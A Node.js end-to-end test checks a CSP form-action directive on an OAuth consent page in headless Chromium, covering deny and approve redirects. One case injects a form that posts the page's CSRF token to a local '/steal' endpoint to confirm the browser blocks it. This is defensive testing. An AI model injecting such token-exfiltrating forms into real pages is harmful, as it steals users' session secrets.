// `form-action` on the consent page, in Debian's headless Chromium, which applies it to every
// redirect that follows a form POST (not only to the form's own target):
//
//   node consent_form_action.mjs --base http://127.0.0.1:PORT [--login alice]
//
// 1. Deny reaches the client's redirect URI, for a loopback redirect on a port chosen at request
//    time (127.0.0.1 and [::1], the latter listed by its scheme: Chromium ignores IPv6 literals
//    in source lists) and for a private-use scheme (`com.example.e2e:/cb`: the navigation to it
//    is started, as Chromium's network log shows, and not refused).
// 2. Approve reaches the (fake) GitHub, whose origin the page lists.
// 3. A form pointed elsewhere (added to the page, as an injection would) is blocked: Chromium
//    reports the violation and the other server sees nothing.
//
// stdout: one JSON line with what was observed.

import {
    CONSENT_APPROVE,
    check,
    clickAndWait,
    close,
    launchChromium,
    listen,
    log,
    parseArgs,
    pkce,
    randomState,
    runMain,
    waitForConsentButtons,
    withTimeout
} from './lib.mjs';

const args = parseArgs(process.argv.slice(2), ['base']);
const base = new URL(args.base).origin;
const SCHEME_REDIRECT = 'com.example.e2e:/cb';
const CSP_VIOLATION = 'violates the following Content Security Policy directive';

/** A redirect target that records the query of every request to /cb. */
async function recorder(host) {
    const hits = [];
    const srv = await listen((req, res) => {
        const u = new URL(req.url ?? '/', 'http://x');
        if (u.pathname === '/cb' || u.pathname === '/steal') {
            hits.push({ path: u.pathname, params: Object.fromEntries(u.searchParams) });
        }
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end('<!DOCTYPE html><title>e2e target</title><p>here</p>');
    }, host);
    const origin = host.includes(':') ? `http://[${host}]:${srv.port}` : srv.origin;
    return { ...srv, origin, hits };
}

async function register() {
    const resp = await fetch(`${base}/register`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
            client_name: 'Form Action E2E',
            redirect_uris: ['http://127.0.0.1/cb', 'http://[::1]/cb', SCHEME_REDIRECT],
            token_endpoint_auth_method: 'none',
            application_type: 'native',
            grant_types: ['authorization_code']
        })
    });
    const body = await resp.json();
    check(resp.status === 201, `registration answered ${resp.status}: ${JSON.stringify(body)}`);
    return body.client_id;
}

function authorizeUrl(clientId, redirectUri, state) {
    const u = new URL(`${base}/authorize`);
    u.search = new URLSearchParams({
        response_type: 'code',
        client_id: clientId,
        redirect_uri: redirectUri,
        code_challenge: pkce().challenge,
        code_challenge_method: 'S256',
        state,
        scope: 'read:user',
        resource: `${base}/mcp`
    }).toString();
    return u.href;
}

/** A fresh context and page on the consent page for `redirectUri`, watching the network log. */
async function consentPage(browser, clientId, redirectUri, state) {
    const context = await browser.newContext();
    const page = await context.newPage();
    const console = [];
    page.on('console', m => console.push(m.text()));
    const cdp = await context.newCDPSession(page);
    const requested = [];
    await cdp.send('Network.enable');
    cdp.on('Network.requestWillBeSent', e => requested.push({ url: e.request.url, redirectedBy: e.redirectResponse?.status ?? null }));
    const resp = await page.goto(authorizeUrl(clientId, redirectUri, state), { waitUntil: 'load' });
    check(resp.status() === 200, `consent page answered ${resp.status()}`);
    const csp = (await resp.allHeaders())['content-security-policy'] ?? '';
    await waitForConsentButtons(page);
    return { context, page, console, requested, csp };
}

const formAction = csp => csp.split(';').map(d => d.trim()).find(d => d.startsWith('form-action ')) ?? null;

async function denyTo(browser, clientId, target, redirectUri) {
    const state = randomState();
    const c = await consentPage(browser, clientId, redirectUri, state);
    await c.page.locator('button[name="decision"][value="deny"]').click();
    await withTimeout(
        (async () => {
            while (!target.hits.some(h => h.params.state === state)) await new Promise(r => setTimeout(r, 50));
        })(),
        15_000,
        `the denial at ${redirectUri}`
    );
    const hit = target.hits.find(h => h.params.state === state);
    const out = {
        form_action: formAction(c.csp),
        error: hit.params.error,
        code: hit.params.code ?? null,
        csp_violations: c.console.filter(t => t.includes(CSP_VIOLATION)).length
    };
    await c.context.close();
    return out;
}

async function main() {
    const v4 = await recorder('127.0.0.1');
    const v6 = await recorder('::1');
    const elsewhere = await recorder('127.0.0.1');
    const clientId = await register();
    const browser = await launchChromium();
    const result = { chromium: browser.version() };
    try {
        result.deny_loopback = await denyTo(browser, clientId, v4, `${v4.origin}/cb`);
        log('deny to 127.0.0.1: ok');
        result.deny_ipv6_loopback = await denyTo(browser, clientId, v6, `${v6.origin}/cb`);
        log('deny to [::1]: ok');

        // The private-use scheme: no listener can receive it; Chromium's network log shows
        // whether the redirect to it was followed, the console whether CSP refused it.
        {
            const state = randomState();
            const c = await consentPage(browser, clientId, SCHEME_REDIRECT, state);
            await c.page.locator('button[name="decision"][value="deny"]').click();
            await withTimeout(
                (async () => {
                    while (!c.requested.some(r => r.url.startsWith(`${SCHEME_REDIRECT}?`)) &&
                        !c.console.some(t => t.includes(CSP_VIOLATION))) {
                        await new Promise(r => setTimeout(r, 50));
                    }
                })(),
                15_000,
                'the denial to the private-use scheme'
            );
            const followed = c.requested.find(r => r.url.startsWith(`${SCHEME_REDIRECT}?`));
            result.deny_private_scheme = {
                form_action: formAction(c.csp),
                followed: Boolean(followed),
                redirected_by: followed?.redirectedBy ?? null,
                error: followed ? new URL(followed.url).searchParams.get('error') : null,
                state_matches: followed ? new URL(followed.url).searchParams.get('state') === state : false,
                csp_violations: c.console.filter(t => t.includes(CSP_VIOLATION)).length
            };
            await c.context.close();
            log('deny to the private-use scheme: ok');
        }

        // Approve: on to GitHub.
        {
            const c = await consentPage(browser, clientId, `${v4.origin}/cb`, randomState());
            await clickAndWait(c.page, CONSENT_APPROVE, 'the consent page');
            result.approve = {
                form_action: formAction(c.csp),
                title: await c.page.title(),
                csp_violations: c.console.filter(t => t.includes(CSP_VIOLATION)).length
            };
            await c.context.close();
            log('approve to GitHub: ok');
        }

        // A form pointed elsewhere, as an injection would add one.
        {
            const c = await consentPage(browser, clientId, `${v4.origin}/cb`, randomState());
            await c.page.evaluate(target => {
                const f = document.createElement('form');
                f.method = 'post';
                f.action = target;
                const i = document.createElement('input');
                i.name = 'csrf';
                i.value = document.querySelector('input[name="csrf"]').value;
                f.appendChild(i);
                document.body.appendChild(f);
                f.submit();
            }, `${elsewhere.origin}/steal`);
            await withTimeout(
                (async () => {
                    while (!c.console.some(t => t.includes(CSP_VIOLATION))) await new Promise(r => setTimeout(r, 50));
                })(),
                10_000,
                'the CSP violation report'
            );
            await c.page.waitForTimeout(500);
            result.injected_form = {
                violation: c.console.find(t => t.includes(CSP_VIOLATION))?.slice(0, 200) ?? null,
                hits_elsewhere: elsewhere.hits.length,
                // Chromium may replace the page with an empty error document, at the same URL.
                stayed_at_the_proxy: c.page.url().startsWith(`${base}/authorize?`)
            };
            await c.context.close();
            log('form pointed elsewhere: blocked');
        }
    } finally {
        await browser.close();
        await Promise.all([close(v4.server), close(v6.server), close(elsewhere.server)]);
    }
    return result;
}

runMain(main);
